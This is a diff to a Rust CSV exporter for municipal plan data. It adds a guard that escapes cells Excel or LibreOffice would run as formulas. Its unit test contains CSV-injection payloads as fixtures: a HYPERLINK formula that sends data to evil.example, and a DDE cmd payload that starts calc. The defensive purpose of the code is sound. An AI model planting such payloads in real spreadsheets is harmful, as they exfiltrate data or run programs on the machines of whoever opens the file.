@@ -238,8 +238,23 @@ const CSV_HEADER: [&str; 25] = [
     "computed_status",
 ];
 
+/// Columns of numbers (or of a figure written as text, guarded by [`plain`]);
+/// every other column is text and passes through [`guard`].
+const CSV_NUMBERS: [&str; 9] = [
+    "year",
+    "baseline_year",
+    "baseline",
+    "target",
+    "actual",
+    "total_target",
+    "total_actual",
+    "reported_rate",
+    "computed_rate",
+];
+
 /// UTF-8 with BOM: Excel on Windows reads BOM-less CSV as Shift_JIS and garbles Japanese.
 pub fn plan_csv<'a>(city: &City, plan: &'a Plan, assessment: &PlanAssessment) -> Vec<u8> {
+    let text_column = CSV_HEADER.map(|h| !CSV_NUMBERS.contains(&h));
     let mut w = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(b"\xEF\xBB\xBF".to_vec());
@@ -334,7 +349,12 @@ pub fn plan_csv<'a>(city: &City, plan: &'a Plan, assessment: &PlanAssessment) ->
                         .and_then(|a| a.computed.as_deref())
                         .unwrap_or_default(),
                 ];
-                w.write_record(record)
+                for (field, text) in record.iter().zip(text_column) {
+                    let field = if text { guard(field) } else { (*field).into() };
+                    w.write_field(field.as_bytes())
+                        .expect("writing to memory cannot fail");
+                }
+                w.write_record(None::<&[u8]>)
                     .expect("writing to memory cannot fail");
             }
         }
@@ -354,13 +374,48 @@ fn total(d: Option<&Datum>) -> String {
 fn plain(v: &Value) -> String {
     match v {
         Value::Number(n) => fmt_number(*n),
-        Value::Text(t) => t.clone(),
+        Value::Text(t) => guard(t).into_owned(),
+    }
+}
+
+/// Text as a spreadsheet will show it, never run it: a cell that starts
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
+/// and LibreOffice (`=HYPERLINK(…)` sends data away, `@SUM(…)|cmd` starts
+/// programs), so it gets a leading apostrophe, the OWASP rule for CSV.
+/// Numbers are written by [`plain`] and never pass here.
+pub fn guard(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_is_neutralised() {
+        assert_eq!(
+            guard("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+        );
+        assert_eq!(
+            guard("@SUM(1+1)*cmd|' /C calc'!A0"),
+            "'@SUM(1+1)*cmd|' /C calc'!A0"
+        );
+        for s in ["+1", "-", "\tx", "\rx"] {
+            assert_eq!(guard(s), format!("'{s}"));
+        }
+        assert_eq!(guard("総務課"), "総務課");
+        assert_eq!(
+            plain(&Value::Number(-30095.0)),
+            "-30095",
+            "numbers stay numbers"
+        );
+        assert_eq!(plain(&Value::Text("-".into())), "'-");
+    }
 
     /// data.json promises every field of an item and its KPIs; the export
     /// structs list them by hand, so a field added to the model must be
